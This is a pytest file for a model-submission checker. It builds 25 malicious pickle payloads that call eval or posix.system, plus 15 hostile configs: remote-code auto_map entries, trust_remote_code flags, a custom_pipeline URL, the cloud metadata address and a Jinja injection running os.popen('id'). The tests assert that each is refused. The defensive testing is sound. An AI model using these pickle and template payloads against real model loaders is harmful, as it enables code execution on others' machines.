"""Programs hidden in files: 25 kinds of pickle under every allowed ending, 15 hostile configs.
Nothing runs."""

from __future__ import annotations

import io
import json
import pickle
import pickletools
import socket
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from submissions.bundle.check import Catalogue, check
from submissions.format.errors import IntakeError
from submissions.format.pickles import is_pickle
from submissions.model_files.model_folder import ALLOWED
from tests.submissions.bad.case import bundle, ids
from tests.submissions.bad.models import ADAPTER, CLIP, INDEX, model_bundle, template

CANARY = "/tmp/armillary-pickle-canary"
COMMAND = f"touch {CANARY}"
ENDINGS = (*ALLOWED, ".png", ".jpg", ".jpeg", ".webp", ".mp4", ".webm")


class Calls:
    """Pickles to a call."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.call = (function, args)

    def __reduce__(self) -> Any:
        return self.call


def dumped(protocol: int, function: Callable[..., Any] = eval, *args: Any) -> bytes:
    said = args or (f"__import__('os').system({COMMAND!r})",)
    return pickle.dumps(Calls(function, *said), protocol)


def zipped(name: str, data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, data)
    return file.getvalue()


def objects() -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([Calls(eval, "1")], dtype=object), allow_pickle=True)
    return file.getvalue()


BY_HAND = {
    "global": b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
    "inst": b"(S'" + COMMAND.encode() + b"'\niposix\nsystem\n.",
    "obj": b"(cposix\nsystem\nS'" + COMMAND.encode() + b"'\no.",
    "builtin eval": b"c__builtin__\neval\n(S'1'\ntR.",
    "left on the stack": b"I1\nI2\ncposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR.",
    "memo": b"cposix\nsystem\np0\n0g0\n(S'" + COMMAND.encode() + b"'\ntR.",
    "persistent id": b"Pexternal\n.",
    "binary persistent id": b"S'x'\nQ.",
    "build": b"cbuiltins\nobject\n)R(dS'a'\nI1\nsb.",
    "extension 1": b"\x80\x02\x82\x01.",
    "extension 2": b"\x80\x02\x83\x01\x00.",
    "extension 4": b"\x80\x02\x84\x01\x00\x00\x00.",
    "stack global": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.",
    "new object": b"\x80\x02cbuiltins\nobject\n)\x81.",
    "bytes behind": b"cposix\nsystem\n(S'true'\ntR. and a text after it",
}
PAYLOADS: dict[str, bytes] = {
    **{f"protocol {number}": dumped(number) for number in range(6)},
    **BY_HAND,
    "optimised": pickletools.optimize(dumped(2)),
    "torch zip": zipped("archive/data.pkl", dumped(2)),
    "numpy objects": objects(),
    "joblib (zlib)": zlib.compress(dumped(4)),
}


@pytest.mark.parametrize("ending", ENDINGS)
def test_pickles_are_refused_under_every_ending_and_never_unpickled(
    rows: Catalogue, spot: Path, ending: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pickle, "Unpickler", _never)
    monkeypatch.setattr(pickle, "loads", _never)
    refused = {}

    for name, data in PAYLOADS.items():
        with pytest.raises(IntakeError) as error:
            check(_holding(spot, ending, data), rows)
        refused[name] = error.value.problems[0].code

    assert len(refused) == 25 and not Path(CANARY).exists()


def _never(*_args: object, **_kwargs: object) -> None:
    raise AssertionError("something was unpickled")


def _holding(spot: Path, ending: str, data: bytes) -> Path:
    if ending in ALLOWED:
        name = {".safetensors": "text_encoder/model", ".json": "text_encoder/config"}.get(
            ending, "x"
        )
        return model_bundle(spot, {f"model/{name}{ending}": data})
    modality = "video" if ending in (".mp4", ".webm") else "image"
    return bundle(spot, {f"outputs/0{ending}": (ids(modality)[0], data)}, modalities=[modality])


@pytest.mark.parametrize(
    "text", [b"b. the second point", b"", b"# A model\n", b"N.", b"a b\nc d\n", b"I am a text."]
)
def test_plain_text_is_not_taken_for_a_pickle(text: bytes) -> None:
    assert not is_pickle(text)


def config(**changes: Any) -> dict[str, bytes | None]:
    return {"model/text_encoder/config.json": json.dumps({**CLIP, **changes}).encode()}


def pipeline(**changes: Any) -> dict[str, bytes | None]:
    return {"model/model_index.json": json.dumps({**INDEX, **changes}).encode()}


def adapter(**changes: Any) -> dict[str, bytes | None]:
    return {"model/adapter_config.json": json.dumps({**ADAPTER, **changes}).encode()}


HOSTILE: dict[str, dict[str, bytes | None]] = {
    "auto_map to a repository": config(auto_map={"AutoModel": "evil/repo--modeling.Evil"}),
    "auto_map to a file": config(auto_map={"AutoConfig": "configuration.Evil"}),
    "CVE-2026-4372": config(_attn_implementation_internal="evil/kernels"),
    "attention kernels": config(attn_implementation="evil/kernels:fn"),
    "CVE-2026-5241": config(keypoint_detector_config={"trust_remote_code": True, "auto_map": {}}),
    "trust_remote_code inside": config(text_config={"trust_remote_code": True}),
    "quantization code": config(quantization_config={"quant_method": "evil", "modules": "x.py"}),
    "custom pipeline": pipeline(custom_pipeline="https://example.org/evil.py"),
    "part of a module of theirs": pipeline(unet=["unet.evil", "Evil"]),
    "part of os": pipeline(scheduler=["os", "system"]),
    "adapter on an address": adapter(base_model_name_or_path="http://169.254.169.254/latest"),
    "adapter with a mapping": adapter(
        auto_mapping={"base_model_class": "Evil", "parent_library": "evil"}
    ),
    "template reaching out": {
        "model/tokenizer_config.json": template("{{ ''.__class__.__mro__[1] }}")
    },
    "template calling": {
        "model/chat_template.jinja": b"{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    },
    "backbone from the hub": config(backbone="evil/backbone", use_pretrained_backbone=True),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_config_is_refused_without_an_import_or_a_socket(
    rows: Catalogue, spot: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_socket(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a socket was opened")

    with pytest.raises(IntakeError):
        check(model_bundle(spot, config(auto_map={})), rows)
    monkeypatch.setattr(socket, "socket", no_socket)
    monkeypatch.setattr(socket, "create_connection", no_socket)
    before = set(sys.modules)

    with pytest.raises(IntakeError) as refused:
        check(model_bundle(spot, HOSTILE[name]), rows)

    codes = {problem.code for problem in refused.value.problems}
    assert codes <= {"E_CONFIG_KEY", "E_ARCHITECTURE", "E_BASE_MODEL", "E_TEMPLATE"}
    assert {
        module
        for module in set(sys.modules) - before
        if not module.startswith(("jinja2", "markupsafe"))
    } == set()


def test_fifteen_hostile_configs_are_tried() -> None:
    assert len(HOSTILE) == 15
